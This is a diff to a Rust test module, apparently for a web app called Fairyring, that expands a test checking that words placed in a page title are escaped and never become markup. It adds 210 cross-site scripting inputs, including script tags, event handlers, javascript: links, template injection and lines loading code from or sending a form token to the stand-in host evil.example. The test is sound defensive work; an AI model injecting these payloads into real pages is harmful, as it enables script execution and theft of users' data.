@@ -87,25 +87,55 @@ mod tests {
         );
     }
 
-    /// S38: words of a round in the head of its page.
+    /// What words try to be: elements, ends of them, attributes, references, comments, and letters that look like them.
+    const BEGINNINGS: [&str; 10] = [
+        "", "</title>", "\">", "'>", "-->", "&lt;", "&#60;", "\u{0}", "\u{202e}", "\r\n\r\n",
+    ];
+    const PAYLOADS: [&str; 21] = [
+        "<script>alert(1)</script>",
+        "<script src=//evil.example/a.js>",
+        "<ScRiPt>alert(1)</sCrIpT>",
+        "<img src=x onerror=alert(1)>",
+        "<svg onload=alert(1)>",
+        "<svg><script>alert(1)</script></svg>",
+        "<iframe srcdoc='<script>alert(1)</script>'>",
+        "<meta http-equiv=refresh content='0;url=//evil.example'>",
+        "<base href=//evil.example/>",
+        "<link rel=stylesheet href=//evil.example>",
+        "<style>*{background:url(//evil.example)}</style>",
+        "<a href=javascript:alert(1)>x</a>",
+        "<form action=//evil.example><input name=token>",
+        "<body onload=alert(1)>",
+        "<!-- x -->",
+        "<![CDATA[x]]>",
+        "\" onload=\"alert(1)",
+        "' onload='alert(1)",
+        "` onload=`alert(1)",
+        "&#x3c;script&#x3e;",
+        "{{constructor.constructor('alert(1)')()}}",
+    ];
+
+    /// S38: words of a round in the head of its page; 210 of them that try to be more than words.
     #[test]
     fn s38_nothing_in_a_title_becomes_part_of_the_page() {
         let page = "<html><head><title>Fairyring</title></head></html>";
-        for word in [
-            "<script>alert(1)</script>",
-            "</title><script>",
-            "\"><img src=x onerror=a>",
-            "' onload='x",
-            "&lt;",
-        ] {
-            let made = titled(page, word);
-            assert_eq!(made.matches("<script").count(), 0, "{made}");
-            assert_eq!(
-                made.matches('<').count(),
-                page.matches('<').count() + 1,
-                "{made}"
-            );
-            assert_eq!(made.matches('"').count(), 4, "{made}");
+        for word in BEGINNINGS
+            .iter()
+            .flat_map(|begin| PAYLOADS.map(|payload| format!("{begin}{payload}")))
+        {
+            let made = titled(page, &word);
+            // One element more than before, with its two attributes, whatever the words are.
+            for (letter, more) in [('<', 1), ('>', 1), ('"', 4)] {
+                let wanted = page.matches(letter).count() + more;
+                assert_eq!(made.matches(letter).count(), wanted, "{made}");
+            }
+            assert_eq!(made.matches('\'').count(), 0, "{made}");
+            // No reference to a letter but those that were put there.
+            let references = made.split('&').skip(1);
+            for reference in references {
+                let known = ["amp;", "lt;", "gt;", "quot;", "#39;"];
+                assert!(known.iter().any(|one| reference.starts_with(one)), "{made}");
+            }
         }
         assert_eq!(titled("no title", "x"), "no title");
         assert!(titled(page, "Xiangqi").contains("<title>Xiangqi · Fairyring</title>"));
